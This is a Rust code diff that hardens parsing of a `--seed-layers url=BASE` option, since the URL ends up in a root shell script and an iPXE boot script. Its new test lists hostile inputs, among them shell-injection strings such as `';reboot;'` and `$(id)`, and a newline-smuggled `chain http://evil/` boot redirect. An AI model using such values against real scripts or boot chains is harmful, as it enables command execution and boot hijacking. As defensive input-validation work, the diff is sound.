@@ -73,6 +73,10 @@ impl Formats {
     pub fn has(&self, f: Format) -> bool {
         self.0.contains(&f)
     }
+
+    pub fn iter(&self) -> impl Iterator<Item = Format> + '_ {
+        self.0.iter().copied()
+    }
 }
 
 /// Where cloud-init gets the shared layers from (`--seed-layers`).
@@ -87,7 +91,9 @@ pub enum SeedLayers {
 
 /// `--seed-layers` that is neither `embed` nor `url=BASE`.
 #[derive(Debug, thiserror::Error)]
-#[error("`{0}` is neither `embed` nor `url=BASE` with an http(s) BASE")]
+#[error(
+    "`{0}` is neither `embed` nor `url=BASE` with an http(s) BASE of a host and a path in letters, digits and ._~/:%@+=,-"
+)]
 pub struct BadSeedLayers(pub String);
 
 impl SeedLayers {
@@ -113,9 +119,21 @@ impl FromStr for SeedLayers {
         if s == "embed" {
             return Ok(SeedLayers::Embed);
         }
-        match s.strip_prefix("url=") {
-            Some(base) if base.starts_with("http://") || base.starts_with("https://") => {
-                Ok(SeedLayers::Url(base.trim_end_matches('/').to_string()))
+        // BASE goes into a root shell script and into boot.ipxe: only a
+        // plain URL, in characters neither can misread
+        let base = s.strip_prefix("url=").map(|b| b.trim_end_matches('/'));
+        let host = base.and_then(|b| {
+            b.strip_prefix("http://")
+                .or_else(|| b.strip_prefix("https://"))
+        });
+        match (base, host) {
+            (Some(base), Some(host))
+                if !host.is_empty()
+                    && !host.starts_with('/')
+                    && crate::quote::is_ipxe_safe(base)
+                    && !base.contains('%') =>
+            {
+                Ok(SeedLayers::Url(base.to_string()))
             }
             _ => Err(BadSeedLayers(s.to_string())),
         }
@@ -220,6 +238,17 @@ mod tests {
             SeedLayers::Url("https://h/x".into())
         );
         assert!("url=ftp://h".parse::<SeedLayers>().is_err());
+        for hostile in [
+            "url=http://h/x';reboot;'",
+            "url=http://h/$(id)",
+            "url=http://h/${net0/ip}",
+            "url=http://h/a b",
+            "url=http://h/a\nchain http://evil/",
+            "url=http:///path",
+            "url=http://",
+        ] {
+            assert!(hostile.parse::<SeedLayers>().is_err(), "{hostile}");
+        }
         assert!("embedded".parse::<SeedLayers>().is_err());
     }
 
